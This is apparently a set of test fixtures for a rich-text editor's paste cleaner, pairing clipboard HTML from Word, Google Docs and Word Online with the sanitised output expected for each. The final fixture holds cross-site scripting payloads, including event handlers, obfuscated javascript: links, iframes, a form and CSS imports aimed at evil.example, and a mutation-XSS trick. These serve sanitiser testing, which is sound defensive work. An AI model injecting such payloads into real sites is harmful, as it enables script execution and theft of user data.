// HTML that other programs put on the clipboard (shortened), and the content the editor makes of it.

/** Word for Windows: proprietary styles, conditional comments, lists made of paragraphs, a picture on a local disk. */
export const word = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=ProgId content=Word.Document>
<meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/Users/a/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom></w:WordDocument></xml><![endif]-->
<style><!-- /* Style Definitions */ p.MsoNormal, li.MsoNormal {mso-style-unhide:no; margin:0cm; font-size:12.0pt; font-family:"Calibri",sans-serif;} @page WordSection1 {size:612.0pt 792.0pt;} --></style>
</head><body lang=EN-GB link="#0563C1" vlink="#954F72" style='tab-interval:36.0pt;word-wrap:break-word'><!--StartFragment-->
<p class=MsoTitle><span lang=EN-US style='mso-ansi-language:EN-US'>The new harvest<o:p></o:p></span></p>
<h1 style='margin-top:12.0pt'><span lang=EN-US style='font-family:"Calibri Light",sans-serif;font-weight:bold'>At the mill<o:p></o:p></span></h1>
<p class=MsoNormal><span lang=EN-US>Good oil <b style='mso-bidi-font-weight:normal'>stings</b> the <i>throat</i>, and <span style='font-weight:bold'>that</span> is <u>fine</u>.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>Picual<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:"Courier New"'><span style='mso-list:Ignore'>o<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>early<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span></span><![endif]><span lang=EN-US>Koroneiki<o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US>Then:<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>Pick<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>2.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>Press<o:p></o:p></span></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none'><tr style='mso-yfti-irow:0'><td width=200 valign=top style='width:150.0pt;border:solid windowtext 1.0pt'><p class=MsoNormal><span lang=EN-US>Grade<o:p></o:p></span></p></td><td width=200 valign=top style='width:150.0pt'><p class=MsoNormal><span lang=EN-US>Price<o:p></o:p></span></p></td></tr></table>
<p class=MsoNormal><span lang=EN-US><img width=100 height=80 src="file:///C:/Users/a/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png" v:shapes="Picture_x0020_1"></span><a href="https://example.org/oil"><span lang=EN-US>a link</span></a><a name="_Toc123"></a><span lang=EN-US><o:p></o:p></span></p>
<!--EndFragment--></body></html>`

export const wordClean =
  '<h2>The new harvest</h2><h2>At the mill</h2>' +
  '<p>Good oil <strong>stings</strong> the <em>throat</em>, and <strong>that</strong> is <u>fine</u>.</p>' +
  '<ul><li>Picual<ul><li>early</li></ul></li><li>Koroneiki</li></ul><p>Then:</p>' +
  '<ol><li>Pick</li><li>Press</li></ol>' +
  '<table><tbody><tr><td>Grade</td><td>Price</td></tr></tbody></table>' +
  '<p><a href="https://example.org/oil" rel="noopener">a link</a></p>'

/** Google Docs: a `<b>` around text that is not bold, inline styles everywhere, links through a Google redirect. */
export const googleDocs = `<meta charset='utf-8'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1f2e3d4c-7fff-aaaa-bbbb-0123456789ab"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;margin-bottom:6pt;"><span style="font-size:16pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">At the mill</span></h2><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre-wrap;">Good oil </span><span style="font-size:11pt;font-family:Arial,sans-serif;font-weight:700;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre-wrap;">stings</span><span style="font-size:11pt;font-weight:400;white-space:pre-wrap;"> the </span><span style="font-size:11pt;font-weight:400;font-style:italic;text-decoration:none;white-space:pre-wrap;">throat</span><span style="font-weight:400;white-space:pre-wrap;">, CO</span><span style="font-size:0.6em;font-weight:400;vertical-align:sub;white-space:pre-wrap;">2</span><span style="font-weight:400;white-space:pre-wrap;"> and </span><a href="https://www.google.com/url?q=https://example.org/oil?a%3D1&amp;sa=D&amp;source=editors&amp;ust=1&amp;usg=AOv" style="text-decoration:none;"><span style="font-size:11pt;color:#1155cc;font-weight:400;text-decoration:underline;white-space:pre-wrap;">a link</span></a><span style="font-weight:400;white-space:pre-wrap;">.</span></p><br /><ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;font-size:11pt;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Picual</span></p></li><ul style="margin-top:0;"><li dir="ltr" style="list-style-type:circle;" aria-level="2"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">early</span></p></li></ul><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">Koroneiki</span></p></li></ul></b><br class="Apple-interchange-newline">`

export const googleDocsClean =
  '<h2>At the mill</h2>' +
  '<p>Good oil <strong>stings</strong> the <em>throat</em>, CO<sub>2</sub> and <a href="https://example.org/oil?a=1" rel="noopener">a link</a>.</p>' +
  '<ul><li>Picual<ul><li>early</li></ul></li><li>Koroneiki</li></ul>'

/** Word in the browser: a separate list for each item, headings marked only by `role`. */
export const wordOnline = `<meta charset='utf-8'><div class="OutlineElement Ltr SCXW1 BCX0"><p class="Paragraph SCXW1" role="heading" aria-level="1" lang="EN-US">Harvest</p></div><div class="OutlineElement"><p role="heading" aria-level="3">Early</p></div>${[
  ['ul', 1, 'Picual'],
  ['ul', 2, 'early'],
  ['ol', 3, 'very'],
  ['ul', 1, 'Koroneiki'],
]
  .map(
    ([tag, level, words]) =>
      `<div class="ListContainerWrapper SCXW1 BCX0" style="position: relative;"><${tag} class="ListStyle1" role="list"><li data-leveltext="" data-listid="1" data-aria-level="${level}" role="listitem" class="OutlineElement Ltr"><p class="Paragraph"><span class="TextRun"><span class="NormalTextRun">${words}</span></span></p></li></${tag}></div>`,
  )
  .join(
    '',
  )}<div class="OutlineElement"><p class="Paragraph">Then</p></div><div class="ListContainerWrapper"><ol role="list" start="3"><li data-aria-level="1"><p>third</p></li></ol></div><div class="ListContainerWrapper"><ol role="list" start="4"><li data-aria-level="1"><p>fourth</p></li></ol></div>`

export const wordOnlineClean =
  '<h2>Harvest</h2><h3>Early</h3>' +
  '<ul><li>Picual<ul><li>early<ol><li>very</li></ol></li></ul></li><li>Koroneiki</li></ul>' +
  '<p>Then</p><ol start="3"><li>third</li><li>fourth</li></ol>'

/** Word for Windows: a list that continues after a paragraph, and a heading with a bullet. */
export const wordInterrupted = `<html xmlns:w="urn:schemas-microsoft-com:office:word"><body><h2 style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span>&nbsp; </span></span></span><![endif]>Steps</h2>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>1.<span>&nbsp; </span></span></span><![endif]>Pick</p>
<p class=MsoNormal>Wait.</p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>2.<span>&nbsp; </span></span></span><![endif]>Press</p></body></html>`

export const wordInterruptedClean =
  '<h2>Steps</h2><ol><li>Pick</li></ol><p>Wait.</p><ol start="2"><li>Press</li></ol>'

/** Word: a numbered list directly after one with bullets, on both levels, and a centered line. */
export const wordAdjacent = `<html xmlns:w="urn:schemas-microsoft-com:office:word"><body>${[
  [1, '·', 'Picual'],
  [2, 'o', 'early'],
  [2, '1.', 'first'],
  [1, '1.', 'Pick'],
  [1, '2.', 'Press'],
]
  .map(
    ([level, marker, words]) =>
      `<p class=MsoListParagraph style='mso-list:l0 level${level} lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>${marker}<span>&nbsp; </span></span></span><![endif]>${words}</p>`,
  )
  .join('')}<p class=MsoNormal align=center style='text-align:center'>Fin</p></body></html>`

export const wordAdjacentClean =
  '<ul><li>Picual<ul><li>early</li></ul><ol><li>first</li></ol></li></ul>' +
  '<ol><li>Pick</li><li>Press</li></ol><p class="ol-align-center">Fin</p>'

/** Google Docs: only the nested items of a list were copied. */
export const googleDocsDeep =
  '<b style="font-weight:normal;" id="docs-internal-guid-1"><ol><ol><ol><li dir="ltr" aria-level="3"><p dir="ltr" role="presentation"><span>deep</span></p></li></ol><li dir="ltr" aria-level="2"><p dir="ltr"><span>less</span></p></li></ol></ol></b>'

export const googleDocsDeepClean = '<ol><li>deep</li><li>less</li></ol>'

/** HTML with scripts, event handlers, frames, forms and external resources. */
export const hostileHtml = `<p onclick="steal()">Words<script>steal()</script> <img src=x onerror="steal()"><a href="javascript:steal()">click</a>
<a href="java&#10;script:steal()">here</a> <a href="data:text/html,x">there</a></p><iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>steal()</script>"></iframe><svg onload="steal()"><a xlink:href="javascript:steal()"><text>x</text></a></svg>
<form action="https://evil.example/"><input value="secret"><button>Send</button></form><style>@import url(https://evil.example/x.css)</style>
<img src="https://evil.example:pw@evil.example/a.png"><p style="background:url(https://evil.example/b.png)" data-pm="x">More words</p><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`
